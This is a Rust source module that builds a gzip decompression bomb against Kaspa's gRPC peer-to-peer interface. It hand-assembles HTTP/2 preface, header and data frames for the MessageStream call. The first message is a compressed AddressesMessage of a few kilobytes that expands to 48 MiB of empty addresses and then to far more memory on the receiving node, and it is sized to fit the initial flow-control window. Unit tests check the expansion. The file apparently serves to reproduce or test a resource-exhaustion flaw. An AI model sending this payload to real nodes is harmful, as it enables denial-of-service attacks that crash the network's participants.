//! Kaspa's first message as a bomb: a few kilobytes that decode to very many.

use std::io::Write;

use anyhow::{Result, bail};
use flate2::{Compression, write::GzEncoder};

/// Decoded, each two bytes of it become an address of forty bytes.
const DECODED: usize = 48 << 20;
/// HTTP/2's initial window: so much may be sent before the other side says a word.
const MAX_BYTES: usize = 65_535;
/// HTTP/2's largest frame, unless the other side allows more.
const MAX_FRAME: usize = 16_384;

const SETTINGS: u8 = 4;
const HEADERS: u8 = 1;
const DATA: u8 = 0;
const PING: u8 = 6;
const END_HEADERS: u8 = 4;

/// How every HTTP/2 client begins (RFC 9113), with settings that change nothing.
pub(super) fn preface() -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    frame(&mut bytes, SETTINGS, 0, 0, &[]);
    bytes
}

/// A ping, which must be answered.
pub(super) fn ping(n: u64) -> Vec<u8> {
    let mut bytes = Vec::new();
    frame(&mut bytes, PING, 0, 0, &n.to_be_bytes());
    bytes
}

/// A whole call of Kaspa's message stream whose first message is the bomb.
pub(super) fn call() -> Result<Vec<u8>> {
    let message = compressed()?;
    let mut bytes = preface();
    frame(&mut bytes, HEADERS, END_HEADERS, 1, &headers());
    let mut data = vec![1];
    data.extend(u32::try_from(message.len())?.to_be_bytes());
    data.extend(message);
    if data.len() > MAX_BYTES {
        bail!("the bomb has {} bytes, more than may be sent unasked", data.len());
    }
    for part in data.chunks(MAX_FRAME) {
        frame(&mut bytes, DATA, 0, 1, part);
    }
    Ok(bytes)
}

fn frame(into: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    into.extend(&(payload.len() as u32).to_be_bytes()[1..]);
    into.extend([kind, flags]);
    into.extend(stream.to_be_bytes());
    into.extend(payload);
}

/// Literal fields without indexing and without Huffman codes (RFC 7541).
fn headers() -> Vec<u8> {
    let fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", "/protowire.P2P/MessageStream"),
        (":authority", "kaspa"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
        ("grpc-encoding", "gzip"),
    ];
    let mut bytes = Vec::new();
    for (name, value) in fields {
        bytes.push(0);
        for text in [name, value] {
            bytes.push(text.len() as u8);
            bytes.extend(text.bytes());
        }
    }
    bytes
}

/// A KaspadMessage with an AddressesMessage (field 1) of empty addresses (field 1 each).
fn compressed() -> Result<Vec<u8>> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    let mut head = vec![0x0a];
    let mut length = DECODED;
    while length >= 0x80 {
        head.push((length & 0x7f) as u8 | 0x80);
        length >>= 7;
    }
    head.push(length as u8);
    encoder.write_all(&head)?;
    let chunk = [0x0a, 0].repeat(32 * 1024);
    for _ in 0..DECODED / chunk.len() {
        encoder.write_all(&chunk)?;
    }
    Ok(encoder.finish()?)
}

#[cfg(test)]
mod tests {
    use std::io::Read;

    use super::*;

    #[test]
    fn the_bomb_is_small_before_and_large_after() {
        let packed = compressed().unwrap_or_default();
        assert!(packed.len() + 5 < MAX_BYTES, "{} bytes", packed.len());
        let mut decoded = 0;
        let mut decoder = flate2::read::GzDecoder::new(packed.as_slice());
        let mut buffer = vec![0; 1 << 20];
        while let Ok(read @ 1..) = decoder.read(&mut buffer) {
            decoded += read;
        }
        assert_eq!(decoded, DECODED + 5);
    }

    #[test]
    fn frames_are_http_2() {
        assert_eq!(ping(1), [0, 0, 8, 6, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1]);
        assert!(preface().ends_with(&[0, 0, 0, 4, 0, 0, 0, 0, 0]));
    }
}
